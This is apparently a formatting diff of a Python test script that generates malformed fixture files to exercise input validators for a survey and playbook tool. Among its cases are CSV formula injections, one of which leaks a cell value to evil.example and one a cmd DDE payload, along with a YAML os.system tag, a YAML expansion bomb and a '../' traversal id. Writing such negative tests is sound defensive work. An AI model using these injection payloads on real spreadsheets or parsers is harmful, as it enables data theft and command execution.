@@ -83,8 +83,9 @@ def _fixed_zip(data: bytes) -> bytes:
         for info in src.infolist():
             content = src.read(info.filename)
             if info.filename == "docProps/core.xml":
-                content = re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(<)", rb"\g<1>" + stamp + rb"\g<2>",
-                                 content)
+                content = re.sub(
+                    rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(<)", rb"\g<1>" + stamp + rb"\g<2>", content
+                )
             fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME.timetuple()[:6])
             fixed.compress_type = zipfile.ZIP_DEFLATED
             fixed.external_attr = 0o600 << 16
@@ -144,7 +145,8 @@ def corpus() -> dict[str, bytes]:
     files["org_id_too_long.csv"] = csv_text(spoiled(r3_org_id="X" * 201))
     files["org_id_empty.csv"] = csv_text(spoiled(r4_org_id=""))
     files["formula_hyperlink_answer.csv"] = csv_text(
-        spoiled(r2_P4='=HYPERLINK("http://evil.example/?leak="&A2,"Click")'))
+        spoiled(r2_P4='=HYPERLINK("http://evil.example/?leak="&A2,"Click")')
+    )
     files["formula_cmd_answer.csv"] = csv_text(spoiled(r3_R2="+cmd|' /C calc'!A0"))
     files["formula_org_id.csv"] = csv_text(spoiled(r2_org_id='=HYPERLINK("http://evil.example","X")'))
     files["formula_org_id_plain.csv"] = csv_text(spoiled(r3_org_id="=1+2"))
@@ -163,12 +165,15 @@ def corpus() -> dict[str, bytes]:
     files["xlsx_renamed_csv.xlsx"] = good_csv
     typed = [[numeric(c) if j >= 3 else c for j, c in enumerate(r)] for r in GOOD]
     files["xlsx_truncated.xlsx"] = xlsx_bytes([HEADER, *typed])[:700]
-    files["xlsx_out_of_range.xlsx"] = xlsx_bytes([HEADER, *[[numeric(c) if j >= 3 else c for j, c in enumerate(r)]
-                                                             for r in spoiled(r3_P2="7")]])
-    files["xlsx_unknown_role.xlsx"] = xlsx_bytes([HEADER, *[[numeric(c) if j >= 3 else c for j, c in enumerate(r)]
-                                                             for r in spoiled(r4_role="Director")]])
-    files["xlsx_formula_unsaved.xlsx"] = xlsx_bytes([HEADER, *typed],
-                                                    formulas={"K2": '=HYPERLINK("http://evil.example","4")'})
+    files["xlsx_out_of_range.xlsx"] = xlsx_bytes(
+        [HEADER, *[[numeric(c) if j >= 3 else c for j, c in enumerate(r)] for r in spoiled(r3_P2="7")]]
+    )
+    files["xlsx_unknown_role.xlsx"] = xlsx_bytes(
+        [HEADER, *[[numeric(c) if j >= 3 else c for j, c in enumerate(r)] for r in spoiled(r4_role="Director")]]
+    )
+    files["xlsx_formula_unsaved.xlsx"] = xlsx_bytes(
+        [HEADER, *typed], formulas={"K2": '=HYPERLINK("http://evil.example","4")'}
+    )
     files["xlsx_empty_sheet.xlsx"] = xlsx_bytes([])
     files["xlsx_header_only.xlsx"] = xlsx_bytes([HEADER])
     beyond = [list(r) for r in typed]
@@ -201,80 +206,97 @@ def corpus() -> dict[str, bytes]:
     files["parquet_truncated.parquet"] = parquet_bytes(good_table())[:300]
     files["parquet_float_answers.parquet"] = parquet_bytes(good_table(P1=pa.array([3.5, 2.0, 5.0], pa.float64())))
     files["parquet_timestamp_column.parquet"] = parquet_bytes(
-        good_table(R1=pa.array([FIXED_TIME, None, None], pa.timestamp("s"))))
+        good_table(R1=pa.array([FIXED_TIME, None, None], pa.timestamp("s")))
+    )
     files["parquet_nested_column.parquet"] = parquet_bytes(
-        good_table(T1=pa.array([[1], [2, 3], []], pa.list_(pa.int64()))))
+        good_table(T1=pa.array([[1], [2, 3], []], pa.list_(pa.int64())))
+    )
     files["parquet_binary_org_id.parquet"] = parquet_bytes(
-        good_table(org_id=pa.array([b"X", b"\xff\xfe", b"X"], pa.binary())))
+        good_table(org_id=pa.array([b"X", b"\xff\xfe", b"X"], pa.binary()))
+    )
     files["parquet_no_rows.parquet"] = parquet_bytes(good_table().slice(0, 0))
 
     # --- profiles (judged beside tests/data/mini_responses.csv, organization X)
     prof_header = "org_id,org_name,industry,agents,stage"
     files["profiles_no_match.csv"] = f"{prof_header}\nZZZ,Nobody Inc,technology,40,considering\n"
-    files["profiles_duplicate_org.csv"] = (f"{prof_header}\nX,Example,technology,40,considering\n"
-                                           "X,Example again,technology,40,considering\n")
+    files["profiles_duplicate_org.csv"] = (
+        f"{prof_header}\nX,Example,technology,40,considering\nX,Example again,technology,40,considering\n"
+    )
     files["profiles_bad_stage.csv"] = f"{prof_header}\nX,Example,technology,40,ready\n"
     files["profiles_bad_agents.csv"] = f"{prof_header}\nX,Example,technology,many,considering\n"
     files["profiles_bad_size_band.csv"] = "org_id,size_band\nX,huge\n"
     files["profiles_kpi_out_of_range.csv"] = "org_id,abandon_rate\nX,150\n"
-    files["profiles_org_traversal.csv"] = (f"{prof_header}\nX,Example,technology,40,considering\n"
-                                           "../Y,Sneaky,technology,40,considering\n")
+    files["profiles_org_traversal.csv"] = (
+        f"{prof_header}\nX,Example,technology,40,considering\n../Y,Sneaky,technology,40,considering\n"
+    )
     files["profiles_empty.csv"] = b""
     files["profiles_missing_org_id.csv"] = "id,org_name\nX,Example\n"
     files["profiles_renamed_csv.xlsx"] = f"{prof_header}\nX,Example,technology,40,considering\n"
     files["profiles_header_only.csv"] = prof_header + "\n"
     files["profiles_latin1.csv"] = f"{prof_header}\nX,Société Générale,financial_services,40,considering\n".encode(
-        "latin-1")
+        "latin-1"
+    )
 
     # --- instruments (judged with tests/data/mini_responses.csv)
     mini = (DATA / "mini.yaml").read_text(encoding="utf-8")
     files["instrument_duplicate_item.yaml"] = mini.replace("{id: R2, text: Process two", "{id: R1, text: Process two")
     files["instrument_empty.yaml"] = "# nothing but a comment\n"
     files["instrument_not_mapping.yaml"] = "- people\n- process\n"
-    files["instrument_invalid_yaml.yaml"] = mini.replace("roles: {agent: 1.0, manager: 2.0}",
-                                                         "roles: {agent: 1.0, manager: 2.0")
-    files["instrument_latin1.yaml"] = mini.replace("title: Mini instrument for tests",
-                                                   "title: Instrument für Tests").encode("latin-1")
-    files["instrument_unknown_role.yaml"] = mini.replace("{id: T2, text: Tech two, label_set: agreement, "
-                                                         "roles: [agent, manager]}",
-                                                         "{id: T2, text: Tech two, label_set: agreement, "
-                                                         "roles: [agent, boss]}")
+    files["instrument_invalid_yaml.yaml"] = mini.replace(
+        "roles: {agent: 1.0, manager: 2.0}", "roles: {agent: 1.0, manager: 2.0"
+    )
+    files["instrument_latin1.yaml"] = mini.replace(
+        "title: Mini instrument for tests", "title: Instrument für Tests"
+    ).encode("latin-1")
+    files["instrument_unknown_role.yaml"] = mini.replace(
+        "{id: T2, text: Tech two, label_set: agreement, roles: [agent, manager]}",
+        "{id: T2, text: Tech two, label_set: agreement, roles: [agent, boss]}",
+    )
     files["instrument_label_set_not_list.yaml"] = mini.replace(
-        "agreement: [Strongly disagree, Disagree, Neutral, Agree, Strongly agree]", "agreement: 5")
-    files["instrument_label_set_unhashable.yaml"] = mini.replace("label_set: agreement, reverse",
-                                                                 "label_set: [agreement], reverse")
+        "agreement: [Strongly disagree, Disagree, Neutral, Agree, Strongly agree]", "agreement: 5"
+    )
+    files["instrument_label_set_unhashable.yaml"] = mini.replace(
+        "label_set: agreement, reverse", "label_set: [agreement], reverse"
+    )
     files["instrument_scale_too_large.yaml"] = mini.replace("scale_points: 5", "scale_points: 1000")
     files["instrument_binary.yaml"] = bytes(garbage)
     bomb = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
     for n in range(1, 10):
         bomb.append(f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]")
     files["instrument_yaml_bomb.yaml"] = "\n".join(bomb) + "\n"
-    files["instrument_python_tag.yaml"] = (mini.replace('title: Mini instrument for tests',
-                                                        'title: !!python/object/apply:os.system ["echo pwned"]'))
-    files["instrument_unknown_dimension.yaml"] = mini.replace("  - id: knowledge\n    title: Knowledge",
-                                                              "  - id: sales\n    title: Sales")
+    files["instrument_python_tag.yaml"] = mini.replace(
+        "title: Mini instrument for tests", 'title: !!python/object/apply:os.system ["echo pwned"]'
+    )
+    files["instrument_unknown_dimension.yaml"] = mini.replace(
+        "  - id: knowledge\n    title: Knowledge", "  - id: sales\n    title: Sales"
+    )
 
     # --- playbooks (judged against tests/data/mini.yaml)
     book = (DATA / "mini_playbook.yaml").read_text(encoding="utf-8")
-    files["playbook_cycle.yaml"] = book.replace("    owner: center_manager\n",
-                                                "    owner: center_manager\n    depends_on: [crm]\n", 1)
-    files["playbook_unknown_facet.yaml"] = book.replace("facets: [people.a, people.b]", "facets: [people.a, people.zzz]")
-    files["playbook_self_dependency.yaml"] = book.replace("    owner: center_manager\n",
-                                                          "    owner: center_manager\n    depends_on: [goals]\n", 1)
+    files["playbook_cycle.yaml"] = book.replace(
+        "    owner: center_manager\n", "    owner: center_manager\n    depends_on: [crm]\n", 1
+    )
+    files["playbook_unknown_facet.yaml"] = book.replace(
+        "facets: [people.a, people.b]", "facets: [people.a, people.zzz]"
+    )
+    files["playbook_self_dependency.yaml"] = book.replace(
+        "    owner: center_manager\n", "    owner: center_manager\n    depends_on: [goals]\n", 1
+    )
     files["playbook_empty.yaml"] = b""
     files["playbook_not_mapping.yaml"] = "just a sentence\n"
-    files["playbook_unknown_effort.yaml"] = book.replace("    effort: M\n    duration_weeks: 8",
-                                                         "    effort: XXL\n    duration_weeks: 8")
-    files["playbook_unknown_dependency.yaml"] = book.replace("    owner: training\n",
-                                                             "    owner: training\n    depends_on: [magic]\n")
+    files["playbook_unknown_effort.yaml"] = book.replace(
+        "    effort: M\n    duration_weeks: 8", "    effort: XXL\n    duration_weeks: 8"
+    )
+    files["playbook_unknown_dependency.yaml"] = book.replace(
+        "    owner: training\n", "    owner: training\n    depends_on: [magic]\n"
+    )
 
     # --- target profiles (judged against tests/data/mini.yaml)
     files["targets_unknown_facet.csv"] = "facet,target\npeople.a,80\npeople.zzz,70\n"
     files["targets_out_of_range.yaml"] = "people.a: 80\npeople.b: 180\n"
     files["targets_not_number.csv"] = "facet,target\npeople.a,high\n"
 
-    return {name: content.encode("utf-8") if isinstance(content, str) else content
-            for name, content in files.items()}
+    return {name: content.encode("utf-8") if isinstance(content, str) else content for name, content in files.items()}
 
 
 def main() -> None:
